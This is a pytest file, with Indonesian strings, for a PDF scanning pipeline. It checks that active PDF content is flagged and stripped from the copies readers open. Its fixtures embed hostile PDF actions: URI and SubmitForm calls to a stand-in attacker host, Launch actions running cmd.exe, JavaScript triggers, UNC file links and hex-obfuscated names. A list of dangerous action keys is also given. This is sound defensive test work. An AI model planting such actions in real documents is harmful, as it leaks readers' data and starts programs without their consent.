"""What in a PDF acts or leads out: named to whoever registers the letter, and in no copy that people open."""

from __future__ import annotations

import io

import pytest
from pikepdf import Array, Dictionary, Name, ObjectStreamMode, Pdf, Stream, String
from scan_samples import raw_pdf

from pipeline.scans.operations.inspection import inspect_file, open_scan
from pipeline.scans.operations.page_drawing import OPERATIONS
from pipeline.scans.pdf.searchable_pdf import build_searchable
from pipeline.scans.pdf.upright_pages import upright_pages
from pipeline.scans.refusals import Limits
from pipeline.scans.words import Page, Word

TEXT = b"BT /F1 12 Tf 72 700 Td (Kepada Yth. Kepala Kantor Wilayah) Tj ET"
RECT = b"/Type /Annot /Rect [9 9 99 99]"
ADDRESS = b"<< /S /URI /URI (http://penyerang.contoh/baca) >>"
OTHER_FILE = b"<< /S /GoToR /F (\\\\\\\\penyerang\\\\bagi\\\\a.pdf) /D [0 /Fit] >>"
INSIDE = b"<< /S /GoToE /T << /R /C /N (a.pdf) >> /D [0 /Fit] >>"
LINK = b"/Annots [<< " + RECT + b" /Subtype /Link /A "
BUTTON = b"/Annots [<< " + RECT + b" /Subtype /Widget /FT /Btn /T (kirim) "

#: What is put into the file, and what the warning calls it.
WAYS = {
    "address on opening": ({"root": b"/OpenAction " + ADDRESS}, "membuka alamat internet"),
    "other file on opening": ({"root": b"/OpenAction " + OTHER_FILE}, "membuka berkas lain"),
    "file inside on opening": ({"root": b"/OpenAction " + INSIDE}, "membuka berkas di dalamnya"),
    "address after going to a page": (
        {"root": b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [" + ADDRESS + b"] >>"},
        "membuka alamat internet",
    ),
    "address spelt in hexadecimal": (
        {"root": b"/#4fpenAction << /#53 /#55RI /URI (http://penyerang.contoh) >>"},
        "membuka alamat internet",
    ),
    "address when a page opens": ({"page": b"/AA << /O " + ADDRESS + b" >>"}, "membuka alamat internet"),
    "other file when the document closes": ({"root": b"/AA << /WC " + OTHER_FILE + b" >>"}, "membuka berkas lain"),
    "sound when a page opens": ({"page": b"/AA << /O << /S /Sound >> >>"}, "memutar suara"),
    "button that sends": (
        {"page": BUTTON + b"/A << /S /SubmitForm /F (http://penyerang.contoh) >> >>]"},
        "mengirim isian",
    ),
    "button that fetches": ({"page": BUTTON + b"/A << /S /ImportData /F (a.fdf) >> >>]"}, "mengambil isian"),
    "button that starts a program": ({"page": BUTTON + b"/A << /S /Launch /F (cmd.exe) >> >>]"}, "menjalankan program"),
    "field that runs when it is seen": (
        {"page": BUTTON + b"/AA << /PV << /S /JavaScript /JS (x) >> >> >>]"},
        "JavaScript",
    ),
    "field that runs when it is left": (
        {"page": BUTTON + b"/AA << /Bl " + OTHER_FILE + b" >> >>]"},
        "membuka berkas lain",
    ),
    "field whose parent acts": (
        {
            "root": b"/AcroForm << /Fields [5 0 R] >>",
            "page": b"/Annots [6 0 R]",
            "extra": (
                b"<< /T (a) /FT /Btn /Kids [6 0 R] /AA << /K << /S /JavaScript /JS (x) >> >> >>",
                b"<< " + RECT + b" /Subtype /Widget /Parent 5 0 R >>",
            ),
        },
        "JavaScript",
    ),
    "field that is on no page": (
        {"root": b"/AcroForm << /Fields [<< /T (a) /FT /Tx /AA << /C << /S /JavaScript /JS (x) >> >> >>] >>"},
        "JavaScript",
    ),
    "bookmark that starts a program": (
        {
            "root": b"/Outlines << /First 5 0 R /Last 5 0 R /Count 1 >>",
            "extra": (b"<< /Title (Baca) /A << /S /Launch /F (cmd.exe) >> >>",),
        },
        "menjalankan program",
    ),
    "link to another file": ({"page": LINK + OTHER_FILE + b" >>]"}, "membuka berkas lain"),
    "link into a file inside": ({"page": LINK + INSIDE + b" >>]"}, "membuka berkas di dalamnya"),
    "media": (
        {"page": b"/Annots [<< " + RECT + b" /Subtype /Screen /A << /S /Rendition /OP 0 >> >>]"},
        "memutar media",
    ),
    "action nobody knows": ({"page": LINK + b"<< /S /Baru >> >>]"}, "perintah yang tidak dikenal"),
}
#: How a file may be written, besides in plain sight.
SPELLINGS = {
    "plain": {},
    "objects packed": {"object_stream_mode": ObjectStreamMode.generate},
    "linearised": {"linearize": True},
}
ACTS = (
    "/URI",
    "/GoToR",
    "/GoToE",
    "/JavaScript",
    "/Launch",
    "/SubmitForm",
    "/ImportData",
    "/Rendition",
    "/Sound",
    "/Baru",
)


def made(folder, options, spelling=None):
    path = raw_pdf(folder / "a.pdf", TEXT, **options)
    if spelling:
        with Pdf.open(path) as pdf:
            pdf.save(folder / "b.pdf", **spelling)
        return folder / "b.pdf"
    return path


def read(source: str) -> list[Page]:
    words = tuple(Word(w, (0.1 + n / 10, 0.1, 0.15 + n / 10, 0.12), 0.9, 0) for n, w in enumerate(("Kepada", "Yth.")))
    return [Page(1, 595.0, 842.0, words, "Kepada Yth.", source)]


def acting(data: bytes) -> list[str]:
    """Everything in a file, wherever it stands, that acts or leads out."""
    found = []

    def look(thing, depth=0):
        if isinstance(thing, Dictionary | Stream):
            if str(thing.get("/S")) in ACTS or {"/AA", "/JS", "/EF", "/OpenAction"} & set(thing.keys()):
                found.append(str(thing)[:80])
            for _, part in thing.items():
                if depth < 9 and isinstance(part, Dictionary | Stream | Array) and not part.is_indirect:
                    look(part, depth + 1)
        elif isinstance(thing, Array):
            for part in thing:
                if depth < 9 and isinstance(part, Dictionary | Stream | Array) and not part.is_indirect:
                    look(part, depth + 1)

    with Pdf.open(io.BytesIO(data)) as pdf:
        for thing in pdf.objects:
            look(thing)
    return found


def copies(path) -> dict[str, bytes]:
    """The copies of a letter that people open: searchable by its own text, by text that was read, upright, bound."""
    scan = open_scan(path, "application/pdf")
    part = {"first": 0, "last": 1, "numbers": [4], "parent": 2, "free": 9}
    bound = {"path": str(path), "media": "application/pdf", **part}
    try:
        own = build_searchable(path, "application/pdf", read("lapisan"))
        return {
            "own text": path.read_bytes() if own is None else own,
            "read": build_searchable(path, "application/pdf", read("ocr")),
            "upright": upright_pages(path, "application/pdf", scan, [(0, 90)]),
            "bound": OPERATIONS["carry"](bound, ()).blobs[0],
        }
    finally:
        scan.close()


@pytest.mark.parametrize("spelling", SPELLINGS)
@pytest.mark.parametrize("way", WAYS)
def test_what_acts_is_named_and_in_no_copy_that_people_open(tmp_path, way, spelling):
    options, name = WAYS[way]
    path = made(tmp_path, options, SPELLINGS[spelling])

    warnings = inspect_file(path, Limits()).warnings

    assert any(name in warning and "salinan dibuat tanpa itu" in warning for warning in warnings), warnings
    found = {kind: data for kind, data in copies(path).items() if kind != "bound"}
    assert {kind: acting(data) for kind, data in found.items()} == {kind: [] for kind in found}


@pytest.mark.parametrize("way", WAYS)
def test_no_bound_folder_has_what_acts(tmp_path, way):
    data = copies(made(tmp_path, WAYS[way][0]))["bound"]

    assert not [act for act in (*ACTS, "/AA", "/JS") if act.encode() in data]


def test_what_was_added_to_a_pdf_later_is_found_too(tmp_path):
    path = made(tmp_path, {})
    before = path.read_bytes()
    start = before.rindex(b"startxref\n") + 10
    body = b"1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction " + ADDRESS + b" >> endobj\n"
    table = b"xref\n1 1\n%010d 00000 n \ntrailer << /Root 1 0 R /Size 5 /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(before),
        int(before[start : before.index(b"\n", start)]),
        len(before) + len(body),
    )
    path.write_bytes(before + body + table)

    assert any("membuka alamat internet" in warning for warning in inspect_file(path, Limits()).warnings)
    assert acting(copies(path)["own text"]) == []


def test_a_link_to_the_internet_is_not_told_and_in_no_copy(tmp_path):
    path = made(tmp_path, {"page": LINK + ADDRESS + b" >>]"})

    assert inspect_file(path, Limits()).warnings == ()
    assert acting(copies(path)["own text"]) == []


def test_a_letter_that_goes_only_to_its_own_pages_is_its_own_copy(tmp_path):
    link = LINK + b"<< /S /GoTo /D [3 0 R /Fit] >> >>]"
    path = made(tmp_path, {"root": b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>", "page": link})

    assert inspect_file(path, Limits()).warnings == ()
    assert build_searchable(path, "application/pdf", read("lapisan")) is None


def test_a_form_with_xfa_and_what_a_picture_fetches_from_outside_are_in_no_copy(tmp_path):
    path = made(tmp_path, {"root": b"/AcroForm << /Fields [] /XFA (x) >>"})
    with Pdf.open(path, allow_overwriting_input=True) as pdf:
        away = Stream(pdf, b"q Q", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
        away.F = String("http://penyerang.contoh/gambar")
        away.Ref = Dictionary(F=String("lain.pdf"), Page=0)
        pdf.pages[0].Resources["/XObject"] = Dictionary(Luar=pdf.make_indirect(away))
        pdf.save()

    for kind in ("own text", "read", "upright"):
        with Pdf.open(io.BytesIO(copies(path)[kind])) as copy:
            streams = [thing for thing in copy.objects if isinstance(thing, Stream)]
            assert not [thing for thing in streams if {"/F", "/Ref"} & set(thing.keys())], kind
            assert "/XFA" not in copy.Root.get("/AcroForm", Dictionary())
